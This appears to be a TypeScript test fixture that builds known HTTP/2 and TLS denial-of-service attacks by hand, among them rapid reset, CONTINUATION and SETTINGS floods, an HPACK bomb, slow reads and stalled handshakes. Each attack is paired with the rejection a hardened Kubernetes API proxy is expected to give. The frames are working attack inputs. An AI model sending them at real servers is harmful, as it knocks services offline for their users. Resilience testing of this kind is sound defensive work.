// The known attacks on HTTP/2 servers. Written with frames by hand, as attackers do.
import {
  ACK,
  block,
  data,
  END_HEADERS,
  END_STREAM,
  Frame,
  frame,
  headers,
  PRIORITY,
  settings,
  uint32,
} from '../../tools/http2-frames.ts';
import type { Attack } from './attack.ts';

const PROTOCOL_ERROR = 1;
const FLOW_CONTROL_ERROR = 3;
const FRAME_SIZE_ERROR = 6;
const CANCEL = 8;
const ENHANCE_YOUR_CALM = 11;

const GET_ONE = '/api/v1/namespaces/default/configmaps/small';
const GET_LARGE = '/api/v1/namespaces/default/configmaps/large';
const FRAMES_A_PIECE = 64;
const MAX_INT31 = 0x7fff_ffff;

function request(token: string, path: string, method = 'GET'): string[] {
  const pseudo = [':method', method, ':scheme', 'https', ':path', path, ':authority', 'door'];
  return [...pseudo, 'authorization', `Bearer ${token}`];
}

/** Pieces of many frames each, so that the sender is not what is slow. */
function* pieces(make: (index: number) => Buffer): Generator<Buffer> {
  for (let index = 0; ; index += FRAMES_A_PIECE) {
    yield Buffer.concat(Array.from({ length: FRAMES_A_PIECE }, (_, i) => make(index + i)));
  }
}

const idOf = (index: number): number => 2 * index + 1;

/** The same frame without end, after an opening. */
function flood(
  name: string,
  make: () => Buffer,
  opening = (_token: string): Buffer => NOTHING,
): Attack {
  return {
    name,
    over: 'h2',
    connections: 2,
    end: ENHANCE_YOUR_CALM,
    *input(token) {
      yield opening(token);
      yield* pieces(make);
    },
  };
}

/** A request, and then what ends it. */
function resets(name: string, make: (id: number, token: string) => Buffer): Attack {
  return {
    name,
    over: 'h2',
    connections: 2,
    end: ENHANCE_YOUR_CALM,
    input: (token) => pieces((index) => make(idOf(index), token)),
  };
}

/** A header block that is not ended, and frames that go on with it. */
function unendingBlock(name: string, fragment: Buffer): Attack {
  return flood(
    name,
    () => frame(Frame.CONTINUATION, 0, 1, fragment),
    (token) => headers(1, request(token, GET_ONE), 0),
  );
}

/** A few frames that no client may send. */
function once(name: string, end: Attack['end'], input: (token: string) => Buffer): Attack {
  return {
    name,
    over: 'h2',
    connections: 4,
    end,
    *input(token) {
      yield input(token);
    },
  };
}

const NOTHING: Buffer = Buffer.alloc(0);
const TEN_KILOBYTES = 'x'.repeat(10_000);

/** An entry of 4 KB in the table, and then a request of one byte for each time that it is named. */
function* bombs(token: string): Generator<Buffer> {
  const name = Buffer.from('x');
  const value = Buffer.alloc(4000, 'b');
  // A literal with incremental indexing; 127 + 3873 in the form of RFC 7541, section 5.1.
  const entry = Buffer.concat([Buffer.of(0x40, 1), name, Buffer.of(127, 0xa1, 0x1e), value]);
  const fields = block(request(token, GET_ONE));
  yield frame(Frame.HEADERS, END_HEADERS | END_STREAM, 1, Buffer.concat([fields, entry]));
  const references = Buffer.alloc(8000, 0x80 | 62);
  yield* pieces((index) =>
    frame(
      Frame.HEADERS,
      END_HEADERS | END_STREAM,
      idOf(index + 1),
      Buffer.concat([fields, references]),
    ),
  );
}

function* largeLists(token: string): Generator<Buffer> {
  const list = [...request(token, GET_ONE), ...Array(7).fill(['x-large', TEN_KILOBYTES]).flat()];
  const fields = block(list);
  for (let index = 0; ; index++) {
    const parts = [frame(Frame.HEADERS, END_STREAM, idOf(index), fields.subarray(0, 16_384))];
    for (let at = 16_384; at < fields.length; at += 16_384) {
      const last = at + 16_384 >= fields.length;
      const part = fields.subarray(at, at + 16_384);
      parts.push(frame(Frame.CONTINUATION, last ? END_HEADERS : 0, idOf(index), part));
    }
    yield Buffer.concat(parts);
  }
}

/** One byte of a header block at a time. */
function* slowHeaders(token: string): Generator<Buffer> {
  for (const byte of headers(1, request(token, GET_ONE))) yield Buffer.of(byte);
}

/** As many large answers as may be asked for, none of which is taken. */
function* slowRead(token: string): Generator<Buffer> {
  yield settings([4, 0]);
  for (let index = 0; index < 100; index++) {
    yield headers(idOf(index), request(token, GET_LARGE));
  }
  // It stays alive, which a door that looks for silence must not take for progress.
  for (;;) yield frame(Frame.PING, 0, 0, 'I am her');
}

function* tooManyStreams(token: string): Generator<Buffer> {
  const open = request(token, '/api/v1/namespaces/default/configmaps', 'POST');
  for (let index = 0; index < 1000; index++) yield headers(idOf(index), open, END_HEADERS);
}

/** One byte of a handshake at a time: a timeout that begins anew with each is none. */
function* slowHandshake(): Generator<Buffer> {
  for (const byte of HALF_A_HANDSHAKE) yield Buffer.of(byte);
  for (;;) yield Buffer.of(0);
}

/** TLS records say their length first: this one promises more than comes. */
const HALF_A_HANDSHAKE = Buffer.from('16030102000100', 'hex');

export const ATTACKS: readonly Attack[] = [
  resets('rapid reset (CVE-2023-44487)', (id, token) =>
    Buffer.concat([
      headers(id, request(token, GET_ONE)),
      frame(Frame.RST_STREAM, 0, id, uint32(CANCEL)),
    ]),
  ),
  resets('MadeYouReset (CVE-2025-8671)', (id, token) =>
    Buffer.concat([
      headers(id, request(token, GET_ONE)),
      frame(Frame.WINDOW_UPDATE, 0, id, uint32(0)),
    ]),
  ),
  unendingBlock('CONTINUATION flood (CVE-2024-27316)', Buffer.alloc(16_384, 0x82)),
  unendingBlock('empty CONTINUATION flood', NOTHING),
  {
    name: 'HPACK bomb',
    over: 'h2',
    connections: 2,
    end: ENHANCE_YOUR_CALM,
    input: bombs,
  },
  {
    name: 'header lists over the limit',
    over: 'h2',
    connections: 2,
    end: ENHANCE_YOUR_CALM,
    input: largeLists,
  },
  flood('SETTINGS flood (CVE-2019-9515)', () => settings([4, 65_535])),
  flood('SETTINGS ack flood', () => frame(Frame.SETTINGS, ACK, 0)),
  flood('PING flood (CVE-2019-9512)', () => frame(Frame.PING, 0, 0, '12345678')),
  flood('PRIORITY flood (CVE-2019-9513)', () =>
    frame(Frame.PRIORITY, 0, 5, Buffer.of(0, 0, 0, 3, 9)),
  ),
  flood(
    'empty DATA flood (CVE-2019-9518)',
    () => data(1, ''),
    (token) => headers(1, request(token, '/api/v1/namespaces/default/pods', 'POST'), END_HEADERS),
  ),
  flood('WINDOW_UPDATE flood', () => frame(Frame.WINDOW_UPDATE, 0, 0, uint32(1))),
  once('window overflow', FLOW_CONTROL_ERROR, () =>
    frame(Frame.WINDOW_UPDATE, 0, 0, uint32(MAX_INT31)),
  ),
  once('oversized frame', FRAME_SIZE_ERROR, () => Buffer.from('ffffff000000000001', 'hex')),
  once('PUSH_PROMISE of a client', PROTOCOL_ERROR, () =>
    frame(Frame.PUSH_PROMISE, END_HEADERS, 1, uint32(2)),
  ),
  once('a stream that waits for itself', 'streams reset', (token) =>
    frame(
      Frame.HEADERS,
      END_HEADERS | END_STREAM | PRIORITY,
      1,
      Buffer.concat([Buffer.of(0, 0, 0, 1, 1), block(request(token, GET_ONE))]),
    ),
  ),
  {
    name: 'streams over the limit',
    over: 'h2',
    connections: 2,
    end: 'streams reset',
    input: tooManyStreams,
  },
  {
    name: 'slow read with a closed window (CVE-2019-9517)',
    over: 'h2',
    connections: 1,
    pauseMs: 2,
    end: 'streams reset',
    input: slowRead,
  },
  {
    name: 'slow headers',
    over: 'h2',
    connections: 20,
    pauseMs: 300,
    end: 0,
    input: slowHeaders,
  },
  {
    name: 'half-open connections',
    over: 'tcp',
    connections: 200,
    end: 'dropped',
    *input() {
      yield NOTHING;
    },
  },
  {
    name: 'slow handshakes',
    over: 'tcp',
    connections: 50,
    pauseMs: 300,
    end: 'dropped',
    input: slowHandshake,
  },
  {
    name: 'handshakes that stop',
    over: 'tcp',
    connections: 200,
    end: 'dropped',
    *input() {
      yield HALF_A_HANDSHAKE;
    },
  },
];
